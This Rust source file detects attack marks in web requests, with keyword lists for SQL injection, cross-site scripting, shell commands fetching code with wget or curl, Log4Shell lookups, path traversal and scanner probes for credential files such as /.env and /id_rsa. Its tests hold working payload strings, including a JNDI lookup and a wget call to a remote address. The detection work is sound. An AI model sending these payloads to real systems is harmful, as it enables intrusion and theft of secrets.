//! Marks of attacks in requests: code that is to be run, and pages for which only scanners and exploits ask.
//!
//! People search for `union select committee`, read about `/etc/passwd`, and follow broken links; so a mark is what attacks need in order to
//! work, not a word that they share with those who write about them.

use memchr::{memchr_iter, memmem};
use percent_encoding::percent_decode;

/// What is looked at, decoded twice as attackers encode twice, in lower case, plus signs as spaces. SQL's empty comments are spaces, too.
pub(crate) fn decode(text: &str) -> String {
    let once: Vec<u8> = percent_decode(text.as_bytes()).collect();
    let twice = percent_decode(&once).decode_utf8_lossy();
    twice.replace('+', " ").replace("/**/", " ").to_ascii_lowercase()
}

/// Whether a decoded text carries SQL, script, shell, templates or a way out of a directory.
pub(crate) fn is_injection(decoded: &str) -> bool {
    has_any(decoded, &CODE) || compares_behind_quote(decoded) || unites(decoded)
}

/// Whether a decoded path is one that scanners ask for in the hope that it is there.
pub(crate) fn is_probe(path: &str) -> bool {
    has_any(path, &PROBED)
}

/// Whether a decoded path is one that only an exploit or a scanner's greeting has.
pub(crate) fn is_exploit(path: &str) -> bool {
    has_any(path, &EXPLOITED)
}

fn has_any(text: &str, marks: &[&str]) -> bool {
    marks.iter().any(|mark| memmem::find(text.as_bytes(), mark.as_bytes()).is_some())
}

/// Longest operand of a comparison, and longest beginning of a list of columns.
const OPERAND_BYTES_MAX: usize = 40;

/// A quote, then `or` or `and`, then a comparison: `' or '1'='1`, but not `"rock" or "roll"`.
fn compares_behind_quote(text: &str) -> bool {
    let quotes = memchr_iter(b'\'', text.as_bytes()).chain(memchr_iter(b'"', text.as_bytes()));
    quotes.map(|at| text[at + 1..].trim_start_matches([' ', ')'])).any(|rest| {
        let words = ["or ", "and ", "or(", "and(", "|| ", "&& "];
        let operand = words.iter().find_map(|word| rest.strip_prefix(word)).unwrap_or_default();
        let length =
            operand.bytes().take(OPERAND_BYTES_MAX).position(|byte| matches!(byte, b'=' | b'<' | b'>'));
        length.is_some_and(|length| {
            let operand = operand[..length].trim();
            let is_plain = |byte: u8| byte.is_ascii_alphanumeric() || b"'\"()_. ".contains(&byte);
            !operand.is_empty() && operand.bytes().all(is_plain)
        })
    })
}

/// `union select` with what follows it in SQL: a literal, or a list.
fn unites(text: &str) -> bool {
    let ends = ["union select", "union all select", "union distinct select", "union(select"];
    ends.iter().flat_map(|words| memmem::find_iter(text.as_bytes(), words).map(|at| at + words.len())).any(
        |at| {
            let rest = text[at..].trim_start();
            let list = &rest[..rest.floor_char_boundary(OPERAND_BYTES_MAX)];
            let list = list.split(['&', '\n']).next().unwrap_or_default();
            list.starts_with(|c: char| c.is_ascii_digit() || "'\"(@*".contains(c))
                || list.starts_with("null")
                || list.contains(',')
                || list.contains(" from ")
        },
    )
}

/// Marks of code, in decoded text.
const CODE: [&str; 78] = [
    // Script.
    "<script",
    "<svg",
    "<iframe",
    "<img ",
    "<img/",
    "<object ",
    "<embed ",
    "=javascript:",
    " onerror=",
    "/onerror=",
    "\"onerror=",
    "'onerror=",
    " onload=",
    "/onload=",
    "\"onload=",
    "'onload=",
    " onmouseover=",
    "\"onmouseover=",
    " onfocus=",
    "\"onfocus=",
    "alert(1",
    "alert('",
    "alert(\"",
    "alert(document",
    "+document.cookie",
    "document.cookie)",
    // SQL.
    " or 1=1",
    " and 1=1",
    "'--",
    "and sleep(",
    "or sleep(",
    "select sleep(",
    "select(sleep(",
    "pg_sleep(",
    "and benchmark(",
    "or benchmark(",
    "waitfor delay '",
    "information_schema.",
    "extractvalue(",
    "updatexml(",
    "group_concat(",
    "concat(0x",
    "exec xp_cmdshell",
    "xp_cmdshell '",
    // Shell.
    "() {",
    ";/bin/sh",
    "|/bin/sh",
    "/bin/sh -c",
    "/bin/bash -c",
    "/bin/bash -i",
    ";wget ",
    "; wget ",
    "|wget ",
    "$(wget ",
    "`wget ",
    "wget http://",
    ";curl ",
    "; curl ",
    "|curl ",
    "$(curl ",
    "`curl ",
    "curl http://",
    "cmd.exe?/c",
    "cmd.exe /c",
    "powershell -",
    "powershell.exe",
    // Templates and languages.
    "${jndi",
    "${env:",
    "${lower:",
    "${::-",
    "<?php",
    "php://",
    "=file://",
    "shell_exec(",
    // Ways out.
    "../../",
    "..\\..",
    "=/etc/passwd",
    "\0",
];

/// Marks of pages that scanners look for, in decoded paths.
const PROBED: [&str; 60] = [
    "/.env",
    "/.git/",
    "/.gitconfig",
    "/.gitignore",
    "/.svn",
    "/.hg/",
    "/.htpasswd",
    "/.htaccess",
    "/.aws",
    "/.ssh",
    "/.ds_store",
    "/.vscode",
    "/.listing",
    "/.passwd",
    "/.pwd",
    "/.mysql_history",
    "/.bash_history",
    "/.subversion",
    "/.wp-config",
    "/wp-login",
    "/wp-config",
    "/wp-content/plugins/",
    "/xmlrpc.php",
    "/wlwmanifest",
    "phpmyadmin",
    "/pma/",
    "/myadmin",
    "/mysqladmin",
    "/adminer",
    "/cgi-bin/",
    "/cgi/",
    "/phpinfo",
    "/phpunit",
    "/server-status",
    "/actuator",
    "/solr/",
    "/struts",
    "/jenkins/",
    "/manager/html",
    "/jmx-console",
    "/goform",
    "/setup.cgi",
    "/webshell",
    "_shell.",
    "/shell.",
    "/etc/passwd",
    "/bin/sh",
    "/cmd.exe",
    "/_ignition",
    "/telescope/",
    "/owa/",
    "/autodiscover",
    "/backup.",
    "/dump.sql",
    "/database.sql",
    "/id_rsa",
    "/credentials",
    "/config.php",
    "/web.config",
    "/docker-compose.y",
];

/// Marks of requests that no link leads to.
const EXPLOITED: [&str; 9] = [
    "w00tw00t",
    "eval-stdin",
    "/../",
    "/_ignition/execute-solution",
    "/solr/admin/info/system",
    "/boaform/admin/formlogin",
    "/hnap1",
    "/jmx-console/htmladaptor",
    "/etc/passwd",
];

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn code_is_told_from_those_who_write_about_it() {
        for code in [
            "q=%3CScRiPt%3Ealert(1)",
            "a=javascript%3Aalert(1)",
            "x=\"onerror=alert(1)",
            "id=1' or '1'='1",
            "id=1') or ('a'='a",
            "id=1\" and \"a\"=\"a",
            "id=1'/**/or/**/1=1",
            "id=1 or 1=1",
            "id=-1+union+all+select+null,null",
            "id=1 union select password from users",
            "id=1/**/UNION/**/SELECT/**/1,2",
            "name=admin'--",
            "id=1 and sleep(5)",
            "host=;wget http://192.0.2.1/x",
            "f=..%252f..%252fetc/passwd",
            "f=%252e%252e/%252e%252e/x",
            "() { :; }; echo",
            "${jndi:ldap://192.0.2.1/a}",
            "x=%00",
        ] {
            assert!(is_injection(&decode(code)), "{code}");
        }
        for said in [
            "/blog/powershell-tips",
            "q=curl+tutorial",
            "q=curl+http+request",
            "q=union+all+the+workers&sort=asc",
            "q=union+select+committee",
            "q=%22rock%22+or+%22roll%22&page=2",
            "q=rock+%27n%27+roll+%27and+more",
            "/docs/javascript:void-operator",
            "filter=concat(first,last)",
            "ref=news/<br",
            "q=how+to+use+<table>+and+<br>",
            "q=time.sleep(5)",
            "q=confirm()+or+prompt()",
            "/img/${product.id}",
            "return=../list",
            "q=%23!/bin/bash+set+-e",
            "q=what+is+cmd.exe",
            "onload=start&render=explicit",
            "",
        ] {
            assert!(!is_injection(&decode(said)), "{said}");
        }
    }

    #[test]
    fn pages_that_nobody_links_to_are_known() {
        for path in ["/.env.bak", "/s72_shell.php", "/cgi/networkdiag.cgi", "/x/.wp-config.php.swp"] {
            assert!(is_probe(path), "{path}");
        }
        for path in
            ["/products/telescopes", "/recipes/shellfish-pasta", "/.well-known/security.txt", "/.github/x"]
        {
            assert!(!is_probe(path), "{path}");
        }
        assert!(is_exploit("/w00tw00t.at.isc.sans.dfind") && !is_exploit("/solr/"));
    }
}
